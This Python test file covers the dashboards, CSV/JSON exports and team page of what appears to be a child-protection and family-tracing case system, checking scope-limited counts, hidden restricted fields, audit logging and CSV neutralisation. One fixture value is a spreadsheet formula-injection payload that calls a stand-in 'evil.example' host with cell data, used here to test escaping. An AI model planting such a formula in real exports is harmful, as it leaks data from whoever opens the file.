"""Dashboards and the team page (reports/): every number counted in the reader's scope (S2,
three agencies compared), tables built from form values absent for roles that may not read
them (S3, on the page, the CSV and the JSON), each number linking to the list that shows
exactly those records (followed and compared), no personal data in the links (S22), CSV
cells neutralised (S18), views and downloads audited (S14), the SVG chart within the CSP."""
from __future__ import annotations

import csv
import io
import re
from html import unescape

import pytest
from sqlalchemy import select

from app.audit.models import AuditEntry
from app.extensions import db
from cases.operations import close_case, create_case
from tracing.operations import create_tracing_request

HOSTILE_PLACE = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
SECRET_PLACE = "SENTINEL-place-5e1f"
INQUIRER = {"relation_name": "Halima", "relation": "mother", "inquiry_date": "2024-03-02",
            "consent_for_tracing": True}


@pytest.fixture(autouse=True)
def default_forms(app):
    from forms.operations import load_default_configuration
    load_default_configuration()
    db.session.commit()


def all_section_reads(record_types=("case", "tracing_request", "trace")) -> set[str]:
    from app.permissions import CATALOGUE
    return {name for name in CATALOGUE.entries
            if name.endswith(":read") and any(name.startswith(f"form.{t}.") for t in record_types)}


def _case(user, stage="new", **values):
    data = {"name_first": values.pop("name", "Child"), "sex": "female", "age": 7, **values}
    case = create_case(user, data)
    case.workflow_stage = stage
    db.session.flush()
    return case


@pytest.fixture
def world(make):
    """Three agencies. Agency A has two groups: north (caseworker cw1 and the supervisor)
    and south (caseworker cw2). Agencies B and C each have one caseworker. Two countries
    with places below them; cases at every stage, sex and age band, a few closed."""
    from app.users.operations import create_role
    from forms.operations import create_location, sync_section_permissions
    sync_section_permissions(force=True)
    create_location({"code": "XA", "names": {"en": "Xanadu"}, "type": "country"})
    create_location({"code": "XA-N", "parent": "XA", "names": {"en": "Xanadu North"}, "type": "region"})
    create_location({"code": "XA-N-1", "parent": "XA-N", "names": {"en": "Camp One"}, "type": "camp"})
    create_location({"code": "YB", "names": {"en": HOSTILE_PLACE}, "type": "country"})
    create_location({"code": "ZC", "names": {"en": SECRET_PLACE}, "type": "country"})
    a, b, c = make.agency(), make.agency(), make.agency()
    north, south = make.group(agency=a), make.group(agency=a)
    cw1 = make.user("caseworker", agency=a, groups=[north], full_name="Amina Caseworker")
    cw2 = make.user("caseworker", agency=a, groups=[south], full_name="Jean Caseworker")
    supervisor = make.user("supervisor", agency=a, groups=[north], full_name="Hassan Supervisor")
    cw_b = make.user("caseworker", agency=b)
    cw_c = make.user("caseworker", agency=c)
    manager_role = create_role("manager", "Manager", "agency", {
        "dashboards:read", "cases:read", "tracing:read", "matches:review", *all_section_reads()})
    manager = make.user(manager_role, agency=a)
    director = make.user(create_role("director", "Director", "all", {
        "dashboards:read", "cases:read", "tracing:read", *all_section_reads()}), agency=c)
    limited = make.user(create_role("limited_dash", "Limited", "agency", {
        "dashboards:read", "cases:read", "form.case.basic_identity:read"}), agency=a)
    cases = {
        "n1": _case(cw1, "assessment", sex="male", age=3, location_current="XA-N-1", risk_level="high",
                    name="Northone"),
        "n2": _case(cw1, "case_plan", sex="female", age=8, location_current="XA", risk_level="low"),
        "n3": _case(cw1, "services", sex="female", age=15, location_current="YB", risk_level="high"),
        "n4": _case(cw1, "new", sex="male", age=None, risk_level="high"),
        "s1": _case(supervisor, "new", sex="male", age=12, location_current="XA-N"),
        "s2": _case(cw2, "assessment", sex="female", age=19, location_current="ZC", risk_level="high"),
        "s3": _case(cw2, "new", sex="unknown", age=4),
        "b1": _case(cw_b, "case_plan", sex="male", age=10, location_current="XA-N-1", risk_level="high"),
        "b2": _case(cw_b, "new", sex="female", age=17, location_current="YB"),
        "c1": _case(cw_c, "services", sex="male", age=2, location_current="ZC"),
    }
    close_case(cases["n2"], cw1, "Reunified with the family")
    close_case(cases["b2"], cw_b, "Moved away")
    db.session.commit()
    return {"cw1": cw1, "cw2": cw2, "supervisor": supervisor, "cw_b": cw_b, "cw_c": cw_c, "manager": manager,
            "director": director, "limited": limited, "cases": cases, "a": a, "b": b, "north": north}


VISIBLE = {  # who sees which cases
    "supervisor": {"n1", "n2", "n3", "n4", "s1"},
    "manager": {"n1", "n2", "n3", "n4", "s1", "s2", "s3"},
    "director": {"n1", "n2", "n3", "n4", "s1", "s2", "s3", "b1", "b2", "c1"},
}


def login(app, user):
    from tests.conftest import WebClient
    web = WebClient(app.test_client())
    web.login(user.username)
    return web


def expected_tables(cases: list) -> dict[str, dict]:
    from forms.definitions import location_ancestors

    def band(age):
        if age is None:
            return "unknown"
        return "0-4" if age < 5 else "5-11" if age < 12 else "12-17" if age < 18 else "18+"

    def top(code):
        chain = location_ancestors(code) if code else []
        return chain[-1] if chain else None

    tables = {"status": {}, "stage": {}, "sex": {}, "age": {}, "location": {}}
    for case in cases:
        for name, key in (("status", case.status), ("stage", case.workflow_stage), ("sex", case.sex),
                          ("age", band(case.age)), ("location", top(case.location_code))):
            tables[name][key] = tables[name].get(key, 0) + 1
    return tables


def nonzero(table) -> dict:
    return {row.key: row.count for row in table.rows if row.count}


@pytest.mark.parametrize("viewer", sorted(VISIBLE))
def test_every_number_is_counted_in_the_readers_scope(app, world, viewer):
    """S2: three agencies; each reader's numbers are exactly those of the cases they may open."""
    from reports.operations import dashboard_tables
    user = world[viewer]
    with app.test_request_context():
        tables = {table.name: table for table in dashboard_tables(user)}
    assert set(tables) == {"status", "stage", "sex", "age", "location", "funnel"}
    expected = expected_tables([world["cases"][key] for key in VISIBLE[viewer]])
    for name, counts in expected.items():
        assert nonzero(tables[name]) == counts, name
        assert tables[name].total == len(VISIBLE[viewer])


def test_each_number_links_to_the_list_that_shows_exactly_those_cases(app, world):
    """Follow every link of the manager's dashboard: the case list shows the number counted."""
    web = login(app, world["manager"])
    page = web.get("/dashboards")
    assert page.status_code == 200
    html = page.get_data(as_text=True)
    links = re.findall(r'<a href="(/cases\?[^"]+)">(\d+)</a>', html)
    assert len(links) >= 12
    for href, number in links:
        listed = web.get(unescape(href)).get_data(as_text=True)
        shown = re.search(r"(\d+) case\(s\)", listed)
        assert shown and shown.group(1) == number, (href, number)
    # The links carry codes and fixed choices only: never a name (S22).
    for href in re.findall(r'href="([^"]+)"', html):
        assert "Northone" not in href and "Amina" not in href
        query = unescape(href).partition("?")[2]
        for pair in filter(None, query.split("&")):
            assert pair.split("=")[0] in {"status", "stage", "sex", "age_min", "age_max", "location",
                                          "open_traces", "trace_status", "v"}, href
    assert "Northone" not in html  # a dashboard shows counts, never a child


def table_counts(html: str, name: str) -> dict[str, str]:
    section = re.search(rf'id="table-{name}".*?</section>', html, re.S).group(0)
    return dict(re.findall(r'<tr data-key="([^"]*)"><th scope="row">[^<]*</th>\s*<td class="count">(?:<a [^>]*>)?(\d+)',
                           section))


def test_status_filter_narrows_the_tables_and_travels_in_the_links(app, world):
    web = login(app, world["supervisor"])
    everything = web.get("/dashboards").get_data(as_text=True)
    html = web.get("/dashboards?status=open").get_data(as_text=True)
    # n2 was closed (its stage is "closure"): counted without the filter, not with status=open.
    assert table_counts(everything, "stage")["closure"] == "1"
    assert table_counts(html, "stage") == {"new": "2", "assessment": "1", "case_plan": "0", "services": "1",
                                           "closure": "0"}
    # The status table always counts both; the links carry the filter.
    assert table_counts(html, "status") == {"open": "4", "closed": "1"}
    assert 'href="/cases?stage=assessment&amp;status=open">1</a>' in html
    assert 'href="/dashboards/stage.csv?status=open"' in html
    assert web.get("/dashboards?status=lost").status_code == 422


def test_tables_from_form_values_the_role_may_not_read_are_absent(app, world):
    """S3: the limited role reads the identity section (sex, age) but not where the child is."""
    web = login(app, world["limited"])
    html = web.get("/dashboards").get_data(as_text=True)
    assert 'id="table-sex"' in html and 'id="table-age"' in html and 'id="table-stage"' in html
    assert 'id="table-location"' not in html and SECRET_PLACE not in html and "Xanadu" not in html
    assert web.get("/dashboards/location.csv").status_code == 404
    assert web.get("/dashboards/funnel.csv").status_code == 404  # no tracing:read
    body = web.get("/api/v1/dashboards/cases").get_json()
    assert [table["name"] for table in body["tables"]] == ["status", "stage", "sex", "age"]
    assert SECRET_PLACE not in str(body)
    # A reader of every section sees the places (and the sentinel place's count).
    manager = login(app, world["manager"])
    assert SECRET_PLACE in manager.get("/dashboards").get_data(as_text=True)
    assert SECRET_PLACE in manager.get("/dashboards/location.csv").get_data(as_text=True)


def test_csv_download_of_each_table_is_neutralised_and_audited(app, world):
    web = login(app, world["manager"])
    response = web.get("/dashboards/location.csv?status=open")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert response.headers["Cache-Control"] == "no-store"
    assert "attachment" in response.headers["Content-Disposition"]
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))
    assert rows[0] == ["Value", "Code", "Count"] and rows[-1][0] == "Total"
    by_code = {row[1]: row for row in rows[1:-1]}
    # S18: an administrator's place name starting with "=" stays text.
    assert by_code["YB"][0] == "'" + HOSTILE_PLACE and by_code["YB"][2] == "1"
    assert by_code["XA"][2] == "2" and rows[-1][2] == "6"  # n2 is closed: not counted with status=open
    for row in rows:
        assert not row[0].startswith(("=", "+", "-", "@"))
    entry = db.session.execute(select(AuditEntry).where(AuditEntry.action == "dashboard.export")).scalar_one()
    assert entry.user_id == world["manager"].id
    assert entry.detail == {"table": "location", "status": "open", "rows": len(rows) - 2, "format": "csv"}
    for name in ("status", "stage", "sex", "age", "funnel"):
        assert web.get(f"/dashboards/{name}.csv").status_code == 200
    assert web.get("/dashboards/secrets.csv").status_code == 404


def test_dashboard_view_is_audited_and_needs_its_permission(app, world):
    web = login(app, world["supervisor"])
    assert web.get("/dashboards").status_code == 200
    entry = db.session.execute(select(AuditEntry).where(AuditEntry.action == "dashboard.view")).scalar_one()
    assert entry.user_id == world["supervisor"].id and "funnel" in entry.detail["tables"]
    home = web.get("/").get_data(as_text=True)
    assert 'href="/dashboards"' in home and 'href="/team"' in home
    caseworker = login(app, world["cw1"])
    assert caseworker.get("/dashboards").status_code == 403
    assert caseworker.get("/dashboards/status.csv").status_code == 403
    assert caseworker.get("/team").status_code == 403
    assert caseworker.get("/api/v1/dashboards/cases").status_code == 403
    assert 'href="/dashboards"' not in caseworker.get("/").get_data(as_text=True)
    denied = db.session.execute(select(AuditEntry).where(
        AuditEntry.action == "permission_denied", AuditEntry.user_id == world["cw1"].id)).scalars().all()
    assert len(denied) == 4


def test_tracing_funnel_counts_in_scope_and_the_chart_is_server_drawn_svg(app, make, world):
    from matching.models import MatchProposal
    officer_a = make.user("tracing_officer", agency=world["a"], groups=[world["north"]])
    officer_b = make.user("tracing_officer", agency=world["b"])
    child = {"name_first": "Aisha", "sex": "female", "age": 6}
    request_a = create_tracing_request(officer_a, INQUIRER,
                                       [child, child, child, child])
    request_b = create_tracing_request(officer_b, INQUIRER,
                                       [child, child])
    db.session.commit()
    # The matching jobs of the new traces run now, so that they do not re-score the proposals below.
    from app.jobs.operations import dispatch_committed_jobs
    dispatch_committed_jobs()
    traces_a, traces_b = request_a.traces, request_b.traces
    traces_a[1].tracing_status = "match_confirmed"
    traces_a[2].tracing_status = "reunified"
    traces_a[3].tracing_status = "closed"
    traces_b[0].tracing_status = "reunified"
    for trace, case_key, status in ((traces_a[0], "n1", "pending"), (traces_a[0], "n4", "pending"),
                                    (traces_b[1], "b1", "pending"), (traces_a[1], "n3", "confirmed")):
        db.session.add(MatchProposal(trace_id=trace.id, case_id=world["cases"][case_key].id, score=3.0,
                                     probability=0.9, likelihood="likely", status=status, engine_version=1))
    db.session.commit()
    from reports.operations import tracing_funnel
    with app.test_request_context():
        manager_funnel = {row.key: row.count for row in tracing_funnel(world["manager"]).rows}
        director_funnel = {row.key: row.count for row in tracing_funnel(world["director"]).rows}
    assert manager_funnel == {"sought": 2, "pending": 2, "confirmed": 1, "reunified": 1}
    assert director_funnel == {"sought": 3, "pending": 3, "confirmed": 1, "reunified": 2}

    web = login(app, world["manager"])
    html = web.get("/dashboards").get_data(as_text=True)
    svg = re.search(r"<svg[^>]*data-chart=\"funnel\".*?</svg>", html, re.S).group(0)
    assert svg.count("<rect") == 4 and "style=" not in svg and "<script" not in svg
    assert 'href="/tracing?trace_status=reunified">1</a>' in html
    assert 'href="/matches">2</a>' in html  # the manager reviews matches: the queue is the list
    # The funnel's CSV: one row per step, no total (steps are not parts of a whole).
    rows = list(csv.reader(io.StringIO(web.get("/dashboards/funnel.csv").get_data(as_text=True).lstrip("\ufeff"))))
    assert [row[1:] for row in rows[1:]] == [["sought", "2"], ["pending", "2"], ["confirmed", "1"],
                                             ["reunified", "1"]]
    # The CSP stays strict: no inline style or script was needed.
    csp = web.get("/dashboards").headers["Content-Security-Policy"]
    assert "unsafe-inline" not in csp
    # Right to left, the bars grow from the right edge.
    web.form("/language", {"locale": "ar", "next": "/dashboards"})
    rtl = web.get("/dashboards").get_data(as_text=True)
    svg = re.search(r"<svg[^>]*data-chart=\"funnel\".*?</svg>", rtl, re.S).group(0)
    first_bar = re.search(r'<rect[^>]* x="(\d+)"[^>]* width="(\d+)"', svg)
    assert int(first_bar.group(1)) + int(first_bar.group(2)) == 640
    assert re.search(r'<text class="chart-label" x="640"', svg)
    assert 'dir="rtl"' in rtl


def test_json_api_gives_the_same_numbers(app, world):
    from tests.test_api_tokens import make_token
    web = login(app, world["supervisor"])
    token = make_token(web)
    api = app.test_client()
    headers = {"Authorization": f"Bearer {token}"}
    body = api.get("/api/v1/dashboards/cases?status=open", headers=headers).get_json()
    tables = {table["name"]: table for table in body["tables"]}
    assert set(tables) == {"status", "stage", "sex", "age", "location"}
    assert tables["status"]["total"] == 5 and tables["stage"]["total"] == 4
    stage = {row["key"]: row for row in tables["stage"]["rows"]}
    assert stage["assessment"]["count"] == 1 and stage["assessment"]["filters"] == {"stage": "assessment",
                                                                                    "status": "open"}
    ages = {row["key"]: row for row in tables["age"]["rows"]}
    assert ages["unknown"]["count"] == 1 and ages["unknown"]["filters"] is None
    funnel = api.get("/api/v1/dashboards/tracing", headers=headers).get_json()
    assert [table["name"] for table in funnel["tables"]] == ["funnel"]
    assert api.get("/api/v1/dashboards/cases?status=lost", headers=headers).status_code == 422
    assert api.get("/api/v1/dashboards/cases").status_code == 401
    entry = db.session.execute(select(AuditEntry).where(AuditEntry.action == "dashboard.view")).scalars().all()
    assert {e.detail["channel"] for e in entry} == {"api"}


def test_team_page_shows_each_member_of_the_supervisors_groups(app, make, world):
    web = login(app, world["supervisor"])
    response = web.get("/team")
    assert response.status_code == 200
    html = response.get_data(as_text=True)
    assert "Amina Caseworker" in html and "Hassan Supervisor" in html
    assert "Jean Caseworker" not in html  # the south group is not the supervisor's
    row = re.search(rf'<tr data-member="{world["cw1"].id}">(.*?)</tr>', html, re.S).group(1)
    counts = dict(re.findall(r'data-count="(\w+)">(\d+)<', row))
    # cw1: n1 (assessment, high), n3 (services, high), n4 (new, high) open; n2 is closed.
    assert counts == {"open": "3", "new": "1", "assessment": "1", "case_plan": "0", "services": "1",
                      "closure": "0", "high_risk": "3"}
    assert 'href="/cases?stage=assessment&amp;status=open">1</a>' in html
    audit = db.session.execute(select(AuditEntry).where(AuditEntry.action == "team.view")).scalar_one()
    assert audit.detail == {"members": 2}
    body = web.get("/api/v1/dashboards/team").get_json()
    member = next(m for m in body["members"] if m["user_id"] == world["cw1"].id)
    assert member["open_cases"] == 3 and member["high_risk"] == 3 and member["by_stage"]["services"] == 1
    assert body["stages"]["total"] == 4


def test_team_page_hides_high_risk_from_a_supervisor_who_may_not_read_it(app, make, world):
    """S3: the risk level lives in the protection section; without it there is no high-risk count."""
    from app.users.operations import create_role
    role = create_role("light_supervisor", "Light supervisor", "group", {
        "team:read", "cases:read", "form.case.basic_identity:read"})
    light = make.user(role, agency=world["a"], groups=[world["north"]])
    db.session.commit()
    web = login(app, light)
    html = web.get("/team").get_data(as_text=True)
    assert "High risk" not in html and 'data-count="high_risk"' not in html
    body = web.get("/api/v1/dashboards/team").get_json()
    assert all(member["high_risk"] is None for member in body["members"])


def test_demo_stages_are_drawn_once_and_stay(app):
    from reports.demo import STAGE_SHARES, demo_stage
    drawn = [demo_stage(f"demo-case-{n:03d}") for n in range(300)]
    assert drawn == [demo_stage(f"demo-case-{n:03d}") for n in range(300)]
    shares = {stage: drawn.count(stage) for stage, _share in STAGE_SHARES}
    assert all(count > 30 for count in shares.values()), shares
